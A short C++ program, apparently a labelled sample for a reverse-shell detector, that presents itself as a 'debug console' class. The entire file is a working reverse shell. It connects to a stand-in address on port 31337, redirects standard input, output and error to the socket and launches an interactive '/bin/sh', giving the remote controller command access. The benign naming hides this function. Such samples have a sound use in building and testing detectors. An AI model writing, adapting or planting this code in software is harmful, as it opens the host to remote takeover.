// blind-expect: behavior.reverse-shell
// Debug "console" class that connects to a controller and runs a shell over the connection.
#include <arpa/inet.h>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <string>
#include <utility>
#include <sys/socket.h>
#include <unistd.h>

class RemoteConsole {
public:
    RemoteConsole(std::string host, unsigned short port) : host_(std::move(host)), port_(port) {}
    ~RemoteConsole()
    {
        if (fd_ >= 0)
            ::close(fd_);
    }

    bool open()
    {
        fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
        if (fd_ < 0)
            return false;
        sockaddr_in sa{};
        sa.sin_family = AF_INET;
        sa.sin_port = htons(port_);
        ::inet_pton(AF_INET, host_.c_str(), &sa.sin_addr);
        return ::connect(fd_, reinterpret_cast<sockaddr *>(&sa), sizeof sa) == 0;
    }

    void serve()
    {
        ::dup2(fd_, STDIN_FILENO);
        ::dup2(fd_, STDOUT_FILENO);
        ::dup2(fd_, STDERR_FILENO);
        const char banner[] = "console ready\n";
        ::write(STDOUT_FILENO, banner, sizeof banner - 1);
        std::system("/bin/sh -i");
    }

private:
    std::string host_;
    unsigned short port_;
    int fd_ = -1;
};

int main()
{
    RemoteConsole console("203.0.113.9", 31337);
    if (!console.open())
        return 1;
    console.serve();
    return 0;
}
